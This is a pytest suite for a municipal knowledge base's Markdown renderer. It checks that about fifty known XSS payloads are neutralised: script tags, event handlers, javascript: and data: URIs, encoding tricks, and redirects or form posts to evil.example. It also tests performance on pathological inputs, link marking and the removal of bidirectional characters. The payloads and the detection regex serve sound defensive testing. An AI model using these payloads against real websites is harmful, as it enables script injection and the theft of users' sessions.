"""The articles' Markdown: what is shown, what never is, and what it may cost."""

import re
import time
import uuid

import pytest

from kunskapsbank.markdown import bildnycklar, links, plain, render
from kunskapsbank.models import Bild
from tests.factories_kunskap import make_artikel

KNOWN_TRICKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td background=javascript:alert(1)>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/spy.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![\"onerror=alert(1) x=\"](bild:x)",
    "![x](x \"a\" onerror=alert(1))",
    "[x](https://a.example \"onmouseover=alert(1) '\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "<style>@import'//evil.example/x.css';</style>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
]  # fmt: skip
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)([^>]*)>")
ACTS = re.compile(r"\bon\w+\s*=|style\s*=|javascript|vbscript|data:|blob:|file:|evil", re.I)
OURS = {"h2", "h3", "p", "a", "em", "code", "pre", "div", "table", "thead", "tbody", "tr", "th", "td", "blockquote", "img"}


@pytest.mark.parametrize("trick", KNOWN_TRICKS)
def test_a_known_trick_gives_no_tag_and_no_attribute_that_acts(trick: str) -> None:
    for tag, attributes in TAG.findall(render(trick)):
        assert tag in OURS
        assert not ACTS.search(re.sub(r'title="[^"]*"', "", attributes))


@pytest.mark.parametrize(
    "text",
    [
        "a" * 5_000_000,
        "[" * 5_000_000,
        "> " * 2_500_000,
        "- " * 45_000,
        "".join("  " * depth + "- a\n" for depth in range(300)),
        "*a **b " * 1_000,
        "![a](" * 3_000,
        "a\n" * 4_900,
        "a@b.example " * 8_000,
        "https://b.example " * 5_500,
        "www." * 25_000,
        "((((" * 5_000 + "https://b.example" + "))))" * 5_000,
        "|a" * 60 + "\n" + "|-" * 60 + "\n" + "|b\n" * 4_000,
    ],
    ids=[
        "5 MB", "5 MB of brackets", "5 MB of quotation", "list in list on a line", "list in list", "stress", "pictures", "lines", "mail",
        "links", "www", "brackets", "table",
    ],  # fmt: skip
)
def test_what_is_large_or_deep_takes_a_bounded_time(text: str) -> None:
    began = time.process_time()
    html = render(text)
    plain(text)
    assert time.process_time() - began < 5 and len(html) < 1_500_000


def test_headings_stand_under_the_h1_of_the_page() -> None:
    assert render("# Ett\n\n## Två\n\n###### Sex\n\n# Ett") == "<h2>Ett</h2>\n<h3>Två</h3>\n<h4>Sex</h4>\n<h2>Ett</h2>\n"


def test_headings_that_begin_low_leave_no_gap() -> None:
    assert render("### Tre\n\n##### Fem\n\n## Två") == "<h2>Tre</h2>\n<h3>Fem</h3>\n<h2>Två</h2>\n"


def test_a_link_out_is_marked_and_gives_the_other_page_no_hold() -> None:
    html = render("[Skatteverket](https://skatteverket.example/a?b=1&c=2)")
    assert 'class="kc-lank-ut"' in html and 'rel="noopener noreferrer external"' in html and "b=1&amp;c=2" in html


@pytest.mark.parametrize("href", ["/svar/", "#om", "mailto:kundcenter@exempelkommun.example", "tel:+4684650040"])
def test_a_link_within_the_site_or_to_a_mailbox_is_plain(href: str) -> None:
    assert render(f"[x]({href})") == f'<p><a href="{href}">x</a></p>\n'


@pytest.mark.parametrize(
    ("text", "href", "words"),
    [
        ("Se https://a.example/x?b=1&c=2.", "https://a.example/x?b=1&amp;c=2", "https://a.example/x?b=1&amp;c=2"),
        ("(http://a.example/sida_ett)", "http://a.example/sida_ett", "http://a.example/sida_ett"),
        ("Läs på ”www.a.example/hjälp”!", "https://www.a.example/hj%C3%A4lp", "www.a.example/hjälp"),
        ("Har du sett **https://a.example**?", "https://a.example", "https://a.example"),
    ],
)
def test_a_bare_address_on_the_web_is_a_link_and_the_sentence_ends_after_it(text: str, href: str, words: str) -> None:
    html = render(text)
    assert f'<a href="{href}" class="kc-lank-ut" rel="noopener noreferrer external">{words}</a>' in html
    assert html.count("<a ") == 1


@pytest.mark.parametrize("turning", ["&#x202E;", "&#8238;", "&#x2067;", "\u202e", "[&#x202e;moc](https://a.example)", "![&#x202e;x](y)"])
def test_a_sign_that_turns_what_follows_is_taken_away_however_it_is_written(turning: str) -> None:
    text = f"Före {turning} efter"
    assert not {"\u202e", "\u2067"} & {*render(text), *plain(text)}


def test_a_bare_mail_address_is_a_link_to_the_mailbox() -> None:
    html = render("Skriv till kund_tjanst@exempelkommun.example, eller ring.")
    assert '<a href="mailto:kund_tjanst@exempelkommun.example">kund_tjanst@exempelkommun.example</a>, eller ring.' in html


@pytest.mark.parametrize(
    "text",
    ["`https://a.example`", "[Läs på https://a.example](/svar/)", "javascript://a.example/%0aalert(1)", "data://a.example", "a@b", "www.",
     "ftp://a.example", "\\https://[", "x:y@a.example"],
)  # fmt: skip
def test_what_is_no_address_or_stands_in_a_link_or_code_makes_none(text: str) -> None:
    assert render(text).count("<a ") == text.count("](")


def test_a_bare_address_is_followed_by_the_link_check_and_its_words_stay() -> None:
    assert links("Se https://a.example/x. Eller www.b.example") == ["https://a.example/x", "https://www.b.example"]
    assert plain("Se https://a.example/x, anna@a.example.") == "Se https://a.example/x, anna@a.example."


def test_a_table_scrolls_in_a_frame_of_its_own() -> None:
    assert 'class="kc-tabellram" role="region" tabindex="0"' in render("|a|\n|-|\n|b|")


@pytest.mark.django_db
def test_only_our_own_picture_is_shown_with_its_words() -> None:
    bild = Bild.objects.create(artikel=make_artikel(), fil="x", innehallstyp="image/png", bredd=40, hojd=30, alt="Ett kärl")
    html = render(f"![](bild:{bild.nyckel}) ![Ett annat](bild:{uuid.UUID(int=1)})")
    assert f'{bild.nyckel}/" alt="Ett kärl" width="40" height="30" loading="lazy"' in html
    assert html.count("<img") == 1 and "Ett annat" in html
    assert bildnycklar(f"![](bild:{bild.nyckel}) ![a](bild:fel)") == [bild.nyckel]


def test_plain_gives_the_words_a_block_a_line() -> None:
    assert plain("# Sopor\n\nHämtas **varannan** [vecka](https://a.example).\n\n- ett\n- två") == (
        "Sopor\nHämtas varannan vecka.\nett\ntvå"
    )


def test_links_gives_each_address_on_the_web_once() -> None:
    text = "[a](https://a.example) [b](/svar/) <https://b.example> [c](https://a.example) [d](mailto:x@a.example) `https://c.example`"
    assert links(text) == ["https://a.example", "https://b.example"]
